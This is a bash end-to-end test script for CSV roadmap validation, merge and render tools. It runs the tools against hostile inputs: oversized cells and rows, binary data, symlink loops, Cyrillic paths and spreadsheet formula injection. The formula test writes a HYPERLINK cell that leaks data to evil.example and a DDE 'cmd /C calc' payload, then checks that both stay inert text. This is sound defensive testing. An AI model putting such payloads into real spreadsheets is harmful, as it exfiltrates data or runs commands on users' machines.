# End to end: hostile submissions and registries (tests/hostile/, and the big
# cases generated here) end in the expected exit code and findings, never a
# crash, a hang, a raw exception or an out-of-memory kill; the limits are
# options; odd paths work; no program changes a byte of its inputs.
source "$(dirname "$0")/lib.sh"
ROADMAP=$SRC/data/nizhnevartovsk-mentoring-2026.yaml
HOSTILE=$SRC/tests/hostile
PY=/usr/bin/python3

# codes: the sorted distinct finding codes in the JSON document on stdout.
codes() { json '" ".join(sorted({x["code"] for f in d["files"] for x in f["findings"]}))'; }

# peak_rss_kb PROGRAM ARGS...: the program's peak memory (stdout and stderr dropped).
peak_rss_kb() {
  local program=$1; shift
  $PY -c 'import resource, subprocess, sys
subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)' "$BIN/$program" "$@"
}

# Every input file's checksum now, compared at the end.
sums_before=$(cd "$SRC" && find tests/hostile examples data -type f -print0 | sort -z | xargs -0 sha256sum)

# --- the committed corpus: exact outcome of validate; merge and render survive
while IFS=$'\t' read -r name want_status want_codes; do
  case $name in '#'*|'') continue ;; esac
  file=$HOSTILE/csv/$name
  run roadmap-validate -r "$ROADMAP" "$file" --format json
  expect_status "$want_status" "validate $name"
  got=$(codes)
  checks=$((checks + 1))
  [ "$got" = "$want_codes" ] || fail "validate $name: codes «$got», expected «$want_codes»"
  run roadmap-merge -r "$ROADMAP" "$file" -o "$WORK/merged.csv"
  [ "$status" -le 1 ] || fail "merge $name: exit $status"
  run roadmap-render -r "$ROADMAP" "$file" -o "$WORK/out.xlsx" --as-of 2026-12-31
  [ "$status" -le 2 ] || fail "render $name: exit $status"
done <"$HOSTILE/expected.tsv"

# All of them at once, and on standard input: the same findings, one run.
run roadmap-validate -r "$ROADMAP" "$HOSTILE/csv" --format json
expect_status 1 "the whole corpus"
expect_json "len(d['files'])" "$(ls "$HOSTILE/csv" | wc -l)"
STDIN=$HOSTILE/csv/binary-garbage.csv run roadmap-validate -r "$ROADMAP" - --lang en
expect_status 1 "binary garbage on standard input"
expect_in err "<stdin>: error [encoding] this is not a CSV text file but binary data"

# The messages name what the file really is and what to do.
run roadmap-validate -r "$ROADMAP" "$HOSTILE/csv/really-xlsx.csv" --lang en
expect_in err "really-xlsx.csv: error [encoding] this is not a CSV text file but an Excel workbook (.xlsx) (name the file .xlsx"
run roadmap-validate -r "$ROADMAP" "$HOSTILE/csv/mixed-encodings.csv" --lang en
expect_in err "mixed-encodings.csv:3: error [encoding] column «Статус»: bytes that are not utf-8 text"
run roadmap-validate -r "$ROADMAP" "$HOSTILE/csv/unterminated-quote.csv" --lang en
expect_in err "unterminated-quote.csv:3: error [malformed-csv] the quote opened at line 3 is never closed"

# --- a registry with a duplicate id: the run cannot go on (exit 2), and says where
run roadmap-validate -r "$ROADMAP" --orgs "$HOSTILE/orgs/duplicate-ids.csv" "$SRC/examples/submissions/DOU-01.csv" --lang en
expect_status 2 "registry with duplicate ids"
expect_in err "duplicate-ids.csv:4: error [duplicate-id] column «org_id»: organization id «SCH-01» is already used at line 2"
run roadmap-merge -r "$ROADMAP" --orgs "$HOSTILE/orgs/duplicate-ids.csv" "$SRC/examples/submissions/DOU-01.csv" -o "$WORK/m.csv"
expect_status 2 "merge with a registry with duplicate ids"
[ ! -e "$WORK/m.csv" ] || fail "merge wrote an output without a usable registry"

# --- big cases, generated here (not committed)
HEADER='org_id,period,activity_id,status,value,completed_on,evidence,comment'
$PY - "$WORK" "$HEADER" <<'PY'
import sys
w, header = sys.argv[1], sys.argv[2] + "\n"
row = "DOU-01,2026,1.2,done,,,,{}\n"
with open(f"{w}/field-64mb.csv", "w") as f:      # one 64 MB cell, quoted
    f.write(header + row.format("ok") + 'DOU-01,2026,1.3,done,,,,"' + "я" * (32 << 20) + '"\n')
with open(f"{w}/columns-100k.csv", "w") as f:    # a data row 100,000 cells wide
    f.write(header + row.format("ok") + "DOU-01,2026,1.3,done" + ",x" * 100000 + "\n")
with open(f"{w}/header-100k.csv", "w") as f:     # a header 100,000 cells wide
    f.write(header.strip() + "".join(f",c{i}" for i in range(100000)) + "\n" + row.format("ok"))
with open(f"{w}/blank-10m.csv", "w") as f:       # ten million empty lines between two rows
    f.write(header + row.format("ok") + "\n" * 10_000_000 + row.format("again").replace("1.2", "1.3"))
PY

run roadmap-validate -r "$ROADMAP" "$WORK/field-64mb.csv" --lang en
expect_status 1 "64 MB cell"
expect_in err "field-64mb.csv:3: error [malformed-csv] a cell is longer than 1 MiB, probably an unclosed quote; the rest of the file is not read (--max-field-bytes sets the limit)"
# Raised limits read it whole.
run roadmap-validate -r "$ROADMAP" "$WORK/field-64mb.csv" --max-field-bytes 80M --max-row-bytes 80M --format json
expect_status 0 "64 MB cell within raised limits"
expect_json "d['files'][0]['rows']" 2
run roadmap-validate -r "$ROADMAP" "$WORK/field-64mb.csv" --max-field-bytes 80M --lang en
expect_status 1 "64 MB cell past the row limit"
expect_in err "field-64mb.csv:3: error [malformed-csv] a row is longer than 16 MiB; the rest of the file is not read (--max-row-bytes sets the limit)"

run roadmap-validate -r "$ROADMAP" "$WORK/columns-100k.csv" --lang en --format json
expect_status 1 "100,000 cells"
expect_json "[(x['code'], x['line']) for x in d['files'][0]['findings'] if x['severity'] == 'error']" "[('malformed-csv', 3)]"
expect_json "d['files'][0]['findings'][0]['message']" "a row has more than 16384 cells; the rest of the file is not read"
run roadmap-validate -r "$ROADMAP" "$WORK/columns-100k.csv" --max-row-cells 200000 --lang en --format json
expect_status 1 "100,000 cells within a raised limit: a ragged row"
expect_json "[x['code'] for x in d['files'][0]['findings'] if x['severity'] == 'error']" "['ragged-row']"
run roadmap-validate -r "$ROADMAP" "$WORK/header-100k.csv" --lang en --format json
expect_status 1 "a header of 100,000 cells"
expect_json "[(x['code'], x['line']) for x in d['files'][0]['findings']]" "[('malformed-csv', 1)]"

run roadmap-validate -r "$ROADMAP" "$WORK/blank-10m.csv" --lang en
expect_status 0 "ten million blank lines"
expect_in err "blank-10m.csv:3: warning [blank-row] blank rows 3–10000002 between data rows"
rss=$(peak_rss_kb roadmap-validate -r "$ROADMAP" "$WORK/blank-10m.csv")
checks=$((checks + 1))
[ "$rss" -lt 262144 ] || fail "ten million blank lines took $((rss / 1024)) MB"
run roadmap-merge -r "$ROADMAP" "$WORK/blank-10m.csv" -o "$WORK/blank-merged.csv" -q
expect_status 0 "merge of ten million blank lines"
checks=$((checks + 1))
[ "$(wc -l <"$WORK/blank-merged.csv")" -eq 3 ] || fail "merge of ten million blank lines: not the two rows"

# The file-size limit, for a file (up front) and for standard input (as it is read).
run roadmap-validate -r "$ROADMAP" "$WORK/columns-100k.csv" --max-file-bytes 64K --lang en
expect_status 1 "a file over --max-file-bytes"
expect_in err "columns-100k.csv: error [unreadable-file] the file is larger than 64 KiB; it is not read"
STDIN=$WORK/blank-10m.csv run roadmap-validate -r "$ROADMAP" - --max-file-bytes 64K --lang en
expect_status 1 "standard input over --max-file-bytes"
expect_in err "error [unreadable-file] the file is larger than 64 KiB; it is not read"
expect_in err "<stdin>:"
run roadmap-validate -r "$ROADMAP" "$WORK/columns-100k.csv" --max-file-bytes 1.5M
expect_status 2 "a size that is not a whole number of bytes"

# --- paths with spaces and Cyrillic letters, in and out
IN="$WORK/Отчёты школ 2026"
OUT="$WORK/Свод и мониторинг"
mkdir -p "$IN/Район № 1" "$OUT"
cp "$SRC/examples/submissions/SCH-07.csv" "$IN/Район № 1/школа № 7 (копия).csv"
cp "$SRC/examples/submissions/DOU-01.csv" "$IN/детский сад 1.csv"
run roadmap-validate -r "$ROADMAP" --orgs "$SRC/examples/orgs.csv" "$IN" --lang en
expect_status 1 "Cyrillic paths"
expect_in err "$IN/Район № 1/школа № 7 (копия).csv:"
expect_in err "error [bad-status]"
run roadmap-merge -r "$ROADMAP" "$IN" -o "$OUT/свод 2026.csv" --keep-valid-rows -q
expect_status 1 "merge between Cyrillic paths"
checks=$((checks + 1))
grep -qF "$IN/детский сад 1.csv" "$OUT/свод 2026.csv" || fail "merged provenance lacks the Cyrillic path"
run roadmap-render -r "$ROADMAP" "$OUT/свод 2026.csv" -o "$OUT/мониторинг 2026.xlsx" --as-of 2026-12-31 -q
expect_status 0 "render to a Cyrillic path"
checks=$((checks + 1))
[ -s "$OUT/мониторинг 2026.xlsx" ] || fail "no workbook at the Cyrillic path"

# --- a directory holding symlink loops: each file read once, the run ends,
# the links to directories are named as skipped, and a link with a report's
# name that leads nowhere is a finding at that file, not an absence
LOOPS=$WORK/loops
mkdir -p "$LOOPS/a/b"
cp "$SRC/examples/submissions/DOU-01.csv" "$LOOPS/a/b/DOU-01.csv"
ln -s . "$LOOPS/self"
ln -s .. "$LOOPS/a/up"
ln -s ../.. "$LOOPS/a/b/back"
ln -s "$LOOPS" "$LOOPS/a/b/absolute"
ln -s missing.csv "$LOOPS/dangling.csv"
run roadmap-validate -r "$ROADMAP" "$LOOPS" --format json
expect_status 1 "a directory with symlink loops"
expect_json "[(f['path'], [x['code'] for x in f['findings'] if x['severity'] == 'error']) for f in d['files']]" \
  "[('$LOOPS/a/b/DOU-01.csv', []), ('$LOOPS/dangling.csv', ['unreadable-file'])]"
expect_json "[(s['path'], 'ссылка на папку' in s['reason']) for s in d['skipped']]" \
  "[('$LOOPS/a/b/absolute', True), ('$LOOPS/a/b/back', True), ('$LOOPS/a/up', True), ('$LOOPS/self', True)]"

# --- formula injection: text a spreadsheet would run stays text
# The merged CSV keeps it exactly (it is the school's data) and every program
# names the cell (formula-like); the workbook writes it as a string.
$PY - "$WORK/formulas.csv" <<'PY'
import csv, sys
rows = [["org_id", "period", "activity_id", "status", "value", "evidence", "comment"],
        ["DOU-01", "2026", "1.2", "done", "", '=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)"],
        ["DOU-01", "2026", "1.3", "done", "", "+cmd|' /C calc'!A0", " -2+3"]]
csv.writer(open(sys.argv[1], "w", newline=""), lineterminator="\n").writerows(rows)
PY
run roadmap-merge -r "$ROADMAP" "$WORK/formulas.csv" -o "$WORK/formulas-merged.csv" --lang en
expect_status 0 "formula-like cells are warnings"
expect_in err "formulas.csv:2: warning [formula-like] column «evidence»: the cell starts like a formula: «=HYPERLINK("
expect_in err "formulas.csv:3: warning [formula-like] column «comment»: the cell starts like a formula: «-2+3»"
checks=$((checks + 1))
got=$($PY -c 'import csv, sys; print([(r["evidence"], r["comment"]) for r in csv.DictReader(open(sys.argv[1]))])' "$WORK/formulas-merged.csv")
want=$($PY -c 'print([("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)"), ("+cmd|'"'"' /C calc'"'"'!A0", "-2+3")])')
[ "$got" = "$want" ] || fail "the merged CSV changed formula-like text: $got"
run roadmap-validate -r "$ROADMAP" "$WORK/formulas-merged.csv" --format json
expect_json "[x['code'] for x in d['files'][0]['findings']].count('formula-like')" 4
run roadmap-render -r "$ROADMAP" "$WORK/formulas-merged.csv" -o "$WORK/formulas.xlsx" --as-of 2026-12-31 -q
expect_status 0 "render of formula-like text"
checks=$((checks + 1))
got=$($PY -c 'import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
school = [c for c in cells if isinstance(c.value, str) and ("evil" in c.value or "calc" in c.value or "SUM(1+1)" in c.value or c.value == "-2+3")]
print(sorted({c.data_type for c in school}), len(school) >= 4)' "$WORK/formulas.xlsx")
[ "$got" = "['s'] True" ] || fail "a school's formula-like text in the workbook: $got"

# --- no program changed a byte of its inputs (the template writer included)
run roadmap-template -r "$ROADMAP" --orgs "$SRC/examples/orgs.csv" --period 2026 --out-dir "$WORK/templates" -q
expect_status 0 "templates"
sums_after=$(cd "$SRC" && find tests/hostile examples data -type f -print0 | sort -z | xargs -0 sha256sum)
checks=$((checks + 1))
[ "$sums_before" = "$sums_after" ] || fail "an input changed: $(diff <(echo "$sums_before") <(echo "$sums_after"))"

done_checks
